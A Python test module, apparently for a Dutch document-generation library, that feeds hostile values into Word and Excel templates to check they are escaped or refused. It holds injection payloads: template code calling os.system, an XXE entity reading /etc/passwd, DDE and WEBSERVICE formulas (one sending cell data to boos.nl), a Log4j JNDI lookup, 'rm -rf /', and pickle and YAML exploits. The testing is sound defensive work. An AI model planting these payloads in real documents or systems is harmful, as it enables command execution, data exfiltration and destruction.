# ruff: noqa: E501, ARG005  # tables: one attack a line, lambdas with the arguments that XlsxWriter gives
"""Attacks by the data of a record: texts that hold tags, markup, formulas or signs that no document can hold."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

from safety.attacks import Attack, excel, word
from safety.language import WORD_PLACES
from safety.making import cells, document, excel_box, png, workbook

_ILLEGAL = ("template.illegal-character", "excel.bad-character")
_NUMBER = ("template.not-a-number", "excel.bad-number", "template.wrong-value")
_WRONG = ("template.wrong-value", "template.prints-container", "template.missing-name", "excel.value-in-text")

# texts that must come out as they are
LITERAL: dict[str, str] = {
    "tag": "{{ x.__class__ }}",
    "tag-statement": "{% for a in range(10) %}a{% endfor %}",
    "tag-comment": "{# weg #}",
    "tag-import": "{% import 'os' as os %}{{ os.system('touch gekraakt') }}",
    "tag-row": "{%tr for a in lijst %}",
    "tag-paragraph": "{%p if true %}",
    "tag-run": "{{r x }}",
    "tag-half": "{{ x",
    "tag-end": "x }}",
    "tag-escaped": "{_{ x }_}",
    "tag-nested": "{{ '{{ x }}' }}",
    "tag-spread": "}}{{ x }}{{",
    "format": "{0.__class__} %s %(x)s ${x} #{x}",
    "markup": "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "markup-closing": "</w:t></w:r></w:p></w:body></w:document>",
    "markup-field": '</w:t></w:r><w:fldSimple w:instr="DDEAUTO cmd"/><w:r><w:t>',
    "markup-cdata": "]]><![CDATA[x]]>",
    "markup-comment": "<!-- x -->--><!--",
    "markup-doctype": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "markup-instruction": '<?xml version="1.0"?>',
    "markup-entity": "&amp;&lt;&#60;&#x3c;&x;",
    "markup-quotes": "\"'`><&",
    "markup-html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markup-excel": "</t></si><si><t>x",
    "ampersand": "Jansen & Zonen & <Partners>",
    "escape-excel": "_x000D__x0041_ _x005F_ _x",
    "field-dde": "DDEAUTO c:\\windows\\system32\\cmd.exe",
    "backslashes": "\\\\10.0.0.1\\deel\\a.exe",
    "path": "../../../etc/passwd",
    "sql": "'; DROP TABLE clienten; --",
    "shell": "$(touch gekraakt) `id` ; rm -rf / | cat",
    "emoji": "👩‍👧‍👦 🏳️‍🌈 é",
    "astral": "𝒸𝓁𝒾𝑒𝓃𝓉 𐍈",
    "combining": "a" + "\u0301" * 50,
    "zalgo": "z\u0335\u0321\u035c" * 20,
    "right-to-left": "שלום عربي",
    "replacement": "\ufffd",
    "private-use": "\ue000\uf8ff",
    "soft-hyphen": "a\u00adb",
    "no-break": "a\u00a0b\u202fc",
    "long-word": "A" * 5000,
    "formula": "=1+1",
    "formula-hyperlink": '=HYPERLINK("file://10.0.0.1/deel","klik")',
    "formula-webservice": '=WEBSERVICE("https://boos.nl/"&A1)',
    "formula-dde": "=cmd|'/c calc'!A0",
    "formula-dde-plus": "+cmd|'/c calc'!A0",
    "formula-dde-minus": "-2+3+cmd|'/c calc'!A0",
    "formula-dde-at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "formula-array": "{=1+1}",
    "formula-plus": "+1+1",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(A1)",
    "formula-equals-only": "=",
    "formula-spaces": "   =1+1",
    "formula-fullwidth": "＝1+1",
    "formula-apostrophe": "'=1+1",
    "formula-quoted": '"=1+1"',
    "formula-semicolon": ";=1+1",
    "formula-no-break": "\u00a0=1+1",
    "formula-mark": "\ufeff=1+1",
    "error-word": "#REF!",
    "error-name": "#NAME?",
    "number-like": "007",
    "number-like-exponent": "1e5",
    "number-like-long": "12345678901234567890",
    "boolean-like": "TRUE",
    "date-like": "1-2",
    "date-like-long": "2026-03-03",
    "percent-like": "50%",
    "money-like": "€ 5,00",
    "url": "https://boos.nl",
    "url-javascript": "javascript:alert(1)",
    "url-mailto": "mailto:a@b.nl",
    "python": "__import__('os').system('touch gekraakt')",
    "pickle": "cos\nsystem\n(S'touch gekraakt'\ntR.".replace("\n", " "),
    "yaml": "!!python/object/apply:os.system ['touch gekraakt']",
    "json": '{"$ref": "file:///etc/passwd"}',
    "log": "${jndi:ldap://boos.nl/a}",
    "word-switch": "\\* MERGEFORMAT",
    "header-codes": "&P&N&F&[Path]",
}  # fmt: skip

_EVERYWHERE = (
    "tag", "tag-statement", "tag-import", "markup-closing", "markup-field", "markup-quotes", "markup-excel", "escape-excel",
    "formula", "formula-dde", "formula-spaces", "formula-no-break", "number-like", "header-codes",
)  # fmt: skip

# signs that a record may hold, whole or with the sign taken out
SOFT: dict[str, str] = {
    "tab-formula": "\t=1+1",
    "newline-formula": "\n=1+1",
    "return-formula": "\r=1+1",
    "bidi-override": "a\u202egnp.exe\u202c",
    "bidi-isolate": "a\u2066b\u2069",
    "zero-width": "a\u200bb\u200d",
    "line-separator": "a\u2028b\u2029c",
    "next-line": "a\x85b",
    "c1-controls": "a\x80\x9fb",
    "delete": "a\x7fb",
    "tags-plane": "a\U000e0041b",
    "variation": "a\ufe0fb",
    "noncharacter": "a\ufdd0b",
    "sentinel": "a\ufdd00\ufdd1b",
    "tree-marker": "a\ufdd2Ilogo\ufdd430\ufdd4alt\ufdd3b",
    "noncharacter-astral": "a\U0001fffeb",
    "form-feed": "a\fb",
    "bell": "a\ab",
    "vertical-tab": "a\vb",
}
# signs that no XML can hold
HARD: dict[str, str] = {
    "nul": "a\0b",
    "marker": "a\x01Ilogo\x0330\x03alt\x02b",
    "escape": "a\x1b[31mb",
    "backspace": "a\bb",
    "surrogate-high": "a\ud800b",
    "surrogate-low": "a\udc00b",
    "surrogate-pair-loose": "a\ud83d\ude00b",
    "surrogate-reversed": "a\udc00\ud800b",
    "not-a-character": "a\ufffeb",
    "not-a-character-either": "a\uffffb",
}


class _Trap:
    """An object that would do something when it is looked at."""

    def __str__(self) -> str:
        return "__str__ is aangeroepen"

    def __repr__(self) -> str:
        return "__repr__ is aangeroepen"

    def __getattr__(self, name: str) -> Any:
        raise AttributeError(name)

    def __getitem__(self, key: object) -> Any:
        raise TypeError(key)

    def __iter__(self) -> Any:
        raise TypeError

    def __len__(self) -> int:
        raise TypeError


class _SlyText(str):
    """A text that says something else when asked for its words."""

    __slots__ = ()

    def __str__(self) -> str:
        return "</w:t>"

    def replace(self, *_: object) -> str:  # type: ignore[override]
        return "</w:t>"


class _SlyMapping(dict[str, Any]):
    """A mapping that runs code for a missing key."""

    def __missing__(self, key: str) -> Any:
        return f"__missing__ {key}"


def _values() -> dict[str, tuple[Any, tuple[str, ...]]]:
    from docgen.template import Check, Image, Link, Markdown, Shape

    return {
        "nan": (float("nan"), _NUMBER),
        "infinity": (float("inf"), _NUMBER),
        "infinity-negative": (float("-inf"), _NUMBER),
        "decimal-nan": (Decimal("NaN"), _NUMBER),
        "decimal-snan": (Decimal("sNaN"), _NUMBER),
        "decimal-infinity": (Decimal("Infinity"), _NUMBER),
        "decimal-long": (Decimal("1." + "1" * 4000), _NUMBER),
        "integer-beyond": (10**6000, (*_NUMBER, "template.too-much")),
        "float-tiny": (5e-324, _NUMBER),
        "float-huge": (1.7976931348623157e308, _NUMBER),
        "negative-zero": (-0.0, _NUMBER),
        "date-first": (date(1, 1, 1), _WRONG),
        "date-last": (date(9999, 12, 31), _WRONG),
        "datetime-last": (datetime(9999, 12, 31, 23, 59, 59, 999_999), _WRONG),  # noqa: DTZ001
        "time": (time(23, 59, 59, 999_999), _WRONG),
        "bytes": (b"tekst", _WRONG),
        "bytearray": (bytearray(b"tekst"), _WRONG),
        "list": (["a"], _WRONG),
        "mapping": ({"a": 1}, _WRONG),
        "set": ({"a"}, _WRONG),
        "complex": (1j, _WRONG),
        "object": (_Trap(), _WRONG),
        "class": (_Trap, _WRONG),
        "function": (len, _WRONG),
        "module": (__import__("os"), _WRONG),
        "exception": (ValueError("x"), _WRONG),
        "generator": ((n for n in range(3)), _WRONG),
        "file": (__import__("sys").stdin, _WRONG),
        "text-subclass": (_SlyText("tekst"), _WRONG),
        "image-unknown": (Image("weg", 30), ("word.unknown-image", "excel.missing-asset")),
        "image-path": (Image("../../etc/passwd", 30), ("word.unknown-image", "excel.missing-asset")),
        "image-wide": (Image("logo", 1e308), (*_WRONG, "excel.bad-asset", "excel.bad-number")),
        "image-negative": (Image("logo", -5), (*_WRONG, "excel.bad-asset", "excel.bad-number")),
        "image-nan": (Image("logo", float("nan")), (*_WRONG, "excel.bad-asset", "excel.bad-number")),
        "image-alt-markup": (Image("logo", 30, '"/><w:fldSimple w:instr="DDE"/>'), _WRONG),
        "image-alt-nul": (Image("logo", 30, "a\0b"), _ILLEGAL),
        "image-alt-surrogate": (Image("logo", 30, "a\ud800b"), _ILLEGAL),
        "image-token-markup": (Image('"><a/>', 30), ("word.unknown-image", "excel.missing-asset")),
        "image-token-object": (Image(_Trap(), 30), (*_WRONG, "word.unknown-image", "excel.missing-asset")),  # type: ignore[arg-type]
        "image-width-text": (Image("logo", "30"), _WRONG),  # type: ignore[arg-type]
        "shape-unknown": (Shape("bestaatniet", 10), ("word.unknown-pictogram", "excel.unknown-pictogram", *_WRONG)),
        "shape-wide": (Shape("huis", 1e308), ("word.unknown-pictogram", "excel.unknown-pictogram", "excel.bad-number", *_WRONG)),
        "shape-path": (Shape("../../x", 10), ("word.unknown-pictogram", "excel.unknown-pictogram", *_WRONG)),
        "link-text-markup": (Link("</w:t>", "https://a.nl"), _WRONG),
        "link-text-nul": (Link("a\0b", "https://a.nl"), _ILLEGAL),
        "link-text-formula": (Link("=1+1", "https://a.nl"), _WRONG),
        "link-quote": (Link("a", 'https://a.nl/"><a/>'), ("word.bad-link", "excel.bad-link")),
        "link-long": (Link("a", "https://a.nl/" + "a" * 100_000), ("word.bad-link", "excel.bad-link", "excel.link-too-long", "template.too-much", "excel.text-too-long")),
        "link-object": (Link("a", _Trap()), ("word.bad-link", "excel.bad-link", *_WRONG)),  # type: ignore[arg-type]
        "markdown-markup": (Markdown("**</w:t>** *<a>* - <b/>"), _WRONG),
        "markdown-link": (Markdown("[klik](javascript:alert(1)) ![a](https://boos.nl/a.png) <https://boos.nl>"), _WRONG),
        "markdown-html": (Markdown("<script>alert(1)</script>\n\n# Kop\n\n```x```"), _WRONG),
        "markdown-nul": (Markdown("a\0b"), _ILLEGAL),
        "markdown-formula": (Markdown("=1+1"), _WRONG),
        "markdown-tag": (Markdown("{{ x.__class__ }}"), _WRONG),
        "markdown-object": (Markdown(_Trap()), _WRONG),  # type: ignore[arg-type]
        "check-object": (Check(_Trap()), _WRONG),  # type: ignore[arg-type]
    }  # fmt: skip


_LINKS = ("https://a.nl", "https://a.nl/" + "a" * 100_000, 'https://a.nl/"><a/>', "https://a.nl/%22%3E%3Ca/%3E")


def _logo() -> Mapping[str, bytes]:
    return {"logo": png(10, 10)}


def _sheet_name() -> bytes:
    box = excel_box({"A1": "a", "A2": "==SUM(B1:B2)"})
    box.parts["xl/workbook.xml"] = box.parts["xl/workbook.xml"].replace(b'name="Blad"', b'name="{{ x }}"')
    return box.packed()


def _headed() -> bytes:
    return workbook({"A1": "a"}, draw=lambda book, page: page.set_header("&C{{ x }}"))


_WORDY: dict[str, Callable[[], bytes]] = {
    name: (lambda name=name: WORD_PLACES[name]("{{ x }}"))
    for name in ("header", "footnote", "core-title", "custom-property", "textbox", "alt-text", "content-control-alias",
                 "content-control-tag", "dropdown-item", "hyperlink-tooltip", "bookmark-name", "paragraph-style", "color",
                 "row-height", "page-size", "symbol-font", "comment", "math", "split-letters")
}  # fmt: skip
_PLACES: dict[str, Callable[[], bytes]] = {
    "body": lambda: document("Beste {{ x }},"),
    "cell": lambda: document(cells("{{ x }}")),
    "run": lambda: document("{{r x }}"),
    "paragraph": lambda: document("{{p x }}"),
    "filter": lambda: document("{{ x|trim }}"),
    "loop": lambda: document("{% for y in [x] %}{{ y }}{% endfor %}"),
    "concat": lambda: document("{{ x ~ '' }}"),
}
_SHEETS: dict[str, Callable[[], bytes]] = {
    "cell": lambda: workbook({"A1": "{{ x }}"}),
    "mixed": lambda: workbook({"A1": "{{ x }}{{ leeg }}"}),
    "rich": lambda: workbook({}, draw=lambda b, s: s.write_rich_string("A1", b.add_format({"bold": True}), "{{ x }}", "{{ leeg }}")),
    "loop": lambda: workbook({"A1": "{%tr for y in [x] %}", "A2": "{{ y }}", "A3": "{%tr endfor %}"}),
    "read-by-formula": lambda: workbook({"A1": "{{ x }}", "B1": "==SUM(A1)", "B2": '==A1&""', "B3": "==COUNTIF(A1:A2,A1)"}),
}  # fmt: skip


def _texts() -> list[Attack]:
    found: list[Attack] = []
    for name, text in LITERAL.items():
        shown = (" ".join(text.split()) if name == "formula-spaces" else text,)

        def data(text: str = text) -> Mapping[str, Any]:
            return {"x": text, "leeg": None}

        found.append(word(f"text-{name}", _PLACES["body"], data, shows=shown))
        found.append(excel(f"text-{name}", _SHEETS["cell"], data, shows=(text,)))
        if name in _EVERYWHERE:
            found += [
                word(f"text-{name}-in-{place}", make, data, shows=shown if place != "filter" else (text.strip(),))
                for place, make in _PLACES.items()
                if place != "body"
            ]
            found += [
                excel(f"text-{name}-in-{place}", make, data, shows=(text,), formulas=3)
                for place, make in _SHEETS.items()
                if place != "cell"
            ]
            found.append(excel(f"text-{name}-in-sheet-name", _sheet_name, data, formulas=1, may_pass=True))
            found.append(excel(f"text-{name}-in-header", _headed, data, may_pass=True))
        if name in ("tag", "markup-closing", "markup-field", "markup-quotes", "formula-dde"):
            codes = ("word.wrong-number", "template.wrong-value", "word.field-path")
            found += [
                word(f"text-{name}-in-{place}", make, data, refused=codes, may_pass=True)
                for place, make in _WORDY.items()
            ]
    return found


def _signs() -> list[Attack]:
    found: list[Attack] = []
    for kind, table in (("sign", SOFT), ("sign-hard", HARD)):
        for name, text in table.items():

            def data(text: str = text) -> Mapping[str, Any]:
                return {"x": text, "leeg": None}

            may = kind == "sign"
            for place, make in {
                **_PLACES,
                **{n: _WORDY[n] for n in ("header", "core-title", "alt-text", "content-control-tag")},
            }.items():
                if may and place not in ("body", "alt-text", "core-title"):
                    continue
                found.append(
                    word(f"{kind}-{name}-in-{place}", make, data, refused=(*_ILLEGAL, "word.field-path"), may_pass=may)
                )
            for place, make in {**_SHEETS, "sheet-name": _sheet_name, "header": _headed}.items():
                if may and place not in ("cell", "sheet-name"):
                    continue
                replaced = may or place == "sheet-name"  # what a name cannot hold becomes a space there
                found.append(
                    excel(f"{kind}-{name}-in-{place}", make, data, refused=_ILLEGAL, may_pass=replaced, formulas=3)
                )
    return found


_FILTERED = (
    "nan", "infinity", "decimal-nan", "decimal-long", "integer-beyond", "float-huge", "date-first", "bytes", "list",
    "object", "text-subclass", "markdown-markup", "check-object",
)  # fmt: skip


def _objects() -> list[Attack]:
    found: list[Attack] = []
    for name, (_, codes) in _values().items():

        def data(name: str = name) -> Mapping[str, Any]:
            return {"x": _values()[name][0], "leeg": None}

        harmless = name in {
            "decimal-long", "float-tiny", "float-huge", "negative-zero", "date-first", "date-last", "datetime-last", "time",
            "text-subclass", "shape-unknown", "shape-path", "image-alt-markup", "link-text-markup", "link-text-formula", "link-quote", "link-long",
            "markdown-markup", "markdown-link", "markdown-html", "markdown-formula", "markdown-tag", "check-object",
        }  # fmt: skip
        for place, template in (
            ("cell", "{{ x }}"),
            ("text", "a {{ x }} b"),
            ("filter", "{{ x|upper }}"),
            ("datum", "{{ x|datum }}"),
            ("getal", "{{ x|getal }}"),
            ("bedrag", "{{ x|bedrag }}"),
            ("opsomming", "{{ [x]|opsomming }}"),
        ):
            plain = place in ("cell", "text")
            if not plain and name not in _FILTERED:
                continue
            may = harmless or not plain
            allowed = (
                *codes,
                *_WRONG,
                *_NUMBER,
                "template.filter-type",
                "template.too-much",
                "word.value-place",
                "excel.value-in-text",
            )
            found.append(
                word(
                    f"value-{name}-in-{place}",
                    lambda t=template: document(t),
                    data,
                    refused=codes if plain else allowed,
                    assets=_logo,
                    may_pass=may,
                    links=_LINKS,
                )
            )
            if place != "text" or name not in ("image-unknown",):
                found.append(
                    excel(
                        f"value-{name}-in-{place}",
                        lambda t=template: workbook({"A1": t}),
                        data,
                        refused=codes if place == "cell" else allowed,
                        assets=_logo,
                        may_pass=may or place == "text",
                        links=_LINKS,
                    )
                )
    return found


def _mappings() -> list[Attack]:
    missing = "template.missing-name"
    weird: dict[str, Mapping[Any, Any]] = {
        "key-private": {"__class__": "x", "x": "a"},
        "key-number": {1: "x", "x": "a"},
        "key-none": {None: "x", "x": "a"},
        "key-tuple": {(1, 2): "x", "x": "a"},
        "key-empty": {"": "x", "x": "a"},
        "key-markup": {"</w:t>": "x", "x": "a"},
        "key-tag": {"{{ x }}": "x", "x": "a"},
        "key-generated": {"b": "x", "out": "x", "a": "x", "c": "x", "k1": "x", "x": "a"},
        "key-builtins": {"__builtins__": {}, "len": None, "enumerate": None, "x": "a"},
    }
    found = [word(f"mapping-{name}", _PLACES["body"], lambda m=m: m, shows=("Beste a,",)) for name, m in weird.items()]
    found += [
        excel(f"mapping-{name}", _SHEETS["mixed"], lambda m=m: {**m, "leeg": None}, shows=("a",))
        for name, m in weird.items()
    ]
    found += [
        word("mapping-empty", _PLACES["body"], dict, refused=missing),
        excel("mapping-empty", _SHEETS["cell"], dict, refused=missing),
        word("mapping-of-objects", lambda: document("{{ x.naam }}"), lambda: {"x": _Trap()}, refused=(missing, *_WRONG)),
        excel("mapping-of-objects", lambda: workbook({"A1": "{{ x.naam }}"}), lambda: {"x": _Trap()}, refused=(missing, *_WRONG)),
        word("mapping-loop-over-object", lambda: document("{% for y in x %}a{% endfor %}"), lambda: {"x": _Trap()}, refused=_WRONG),
        word("mapping-loop-over-text", lambda: document("{% for y in x %}a{% endfor %}"), lambda: {"x": "abc"}, refused=_WRONG),
        word("mapping-loop-over-number", lambda: document("{% for y in x %}a{% endfor %}"), lambda: {"x": 3}, refused=_WRONG),
        word("mapping-loop-over-generator", lambda: document("{% for y in x %}a{% endfor %}"), lambda: {"x": iter(int, 1)}, refused=_WRONG),
        word("mapping-join-generator", lambda: document("{{ x|join }}"), lambda: {"x": iter(int, 1)}, refused=_WRONG),
        word("mapping-sort-generator", lambda: document("{{ x|sort|length }}"), lambda: {"x": iter(int, 1)}, refused=_WRONG),
        word("mapping-last-generator", lambda: document("{{ x|last }}"), lambda: {"x": iter(int, 1)}, refused=_WRONG),
        word("mapping-opsomming-generator", lambda: document("{{ x|opsomming }}"), lambda: {"x": iter(int, 1)}, refused=_WRONG),
        word("mapping-in-generator", lambda: document("{% if 5 in x %}a{% endif %}"), lambda: {"x": iter(int, 1)}, refused=_WRONG),
        word("mapping-length-of-object", lambda: document("{{ x|length }}"), lambda: {"x": _Trap()}, refused=_WRONG),
        word("mapping-first-of-object", lambda: document("{{ x|first }}"), lambda: {"x": _Trap()}, refused=_WRONG),
        word("mapping-missing-hook", lambda: document("{{ x.naam }}"), lambda: {"x": _SlyMapping()}, refused=missing),
        word("mapping-missing-hook-root", lambda: document("{{ naam }}"), _SlyMapping, refused=missing),
        word("mapping-compare-object", lambda: document("{% if x == 3 %}a{% endif %}b"), lambda: {"x": _Trap()}, refused=_WRONG, may_pass=True),
        word("mapping-order-object", lambda: document("{% if x < 3 %}a{% endif %}b"), lambda: {"x": _Trap()}, refused=_WRONG),
        word("mapping-add-object", lambda: document("{{ x + 1 }}"), lambda: {"x": _Trap()}, refused=_WRONG),
    ]  # fmt: skip
    return found


def _assets() -> list[Attack]:
    from docgen.template import Image

    bad = ("word.bad-image", "excel.bad-asset", "word.unknown-image", "excel.missing-asset")
    pictures: dict[str, Any] = {
        "pixels": png(30_000, 30_000),
        "pixels-huge": png(2**31 - 1, 2**31 - 1),
        "zero": png(0, 0),
        "text": b"geen plaatje",
        "empty": b"",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "gif": b"GIF89a\x0a\x00\x0a\x00",
        "bmp": b"BM" + b"\0" * 40,
        "emf": b"\x01\0\0\0" + b"\0" * 99,
        "html": b"<html>",
        "truncated": png(10, 10)[:20],
        "jpeg-endless": b"\xff\xd8" + b"\xff" * 3_000_000,
        "jpeg-empty-segments": b"\xff\xd8\xff" + b"\xff\xe0\x00\x00" * 9999,
        "none": None,
        "text-value": "tekst",
    }
    found: list[Attack] = []
    for name, picture in pictures.items():

        def assets(picture: Any = picture) -> Mapping[str, bytes]:
            return {"logo": picture}

        found.append(
            word(
                f"asset-{name}",
                lambda: document("{{ x }}"),
                lambda: {"x": Image("logo", 30)},
                refused=bad,
                assets=assets,
            )
        )
        found.append(
            excel(
                f"asset-{name}",
                lambda: workbook({"A1": "{{ x }}"}),
                lambda: {"x": Image("logo", 30)},
                refused=bad,
                assets=assets,
            )
        )

    def polyglot() -> Mapping[str, bytes]:
        return {"logo": png(10, 10, tail=b"PK\x03\x04<script>")}

    found.append(
        word(
            "asset-polyglot",
            lambda: document("{{ x }}"),
            lambda: {"x": Image("logo", 30)},
            refused=bad,
            assets=polyglot,
            may_pass=True,
        )
    )
    return found


ATTACKS: tuple[Attack, ...] = (*_texts(), *_signs(), *_objects(), *_mappings(), *_assets())
